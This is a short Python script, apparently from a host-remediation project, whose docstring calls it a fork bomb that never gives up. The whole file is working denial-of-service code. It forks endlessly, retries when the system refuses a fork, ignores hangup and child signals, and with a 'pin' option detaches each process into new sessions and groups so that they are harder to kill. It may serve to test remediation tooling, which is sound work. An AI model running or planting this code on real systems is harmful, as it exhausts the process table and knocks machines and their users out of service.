# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright (c) 2026 The hostcare.remediation authors
"""A fork bomb that never gives up: bomb.py [pin]

Each process forks again and again; refused, it waits a moment and goes on. With ``pin`` each keeps three process
numbers: its own, and those of its session and its group, whose leaders are dead.
"""

from __future__ import annotations

import contextlib
import os
import random
import signal
import sys
import time


def pause() -> None:
    time.sleep(0.1 + random.random() / 5)


def fork() -> int:
    while True:
        try:
            return os.fork()
        except OSError:
            pause()


def main(pins: bool) -> None:
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # no zombies: who is dead gives its slot back
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    while True:
        if fork():
            pause()
        elif pins:
            os.setsid()
            if fork():
                os._exit(0)
            with contextlib.suppress(OSError):
                os.setpgid(0, 0)
            if fork():
                os._exit(0)


if __name__ == "__main__":
    main("pin" in sys.argv[1:])
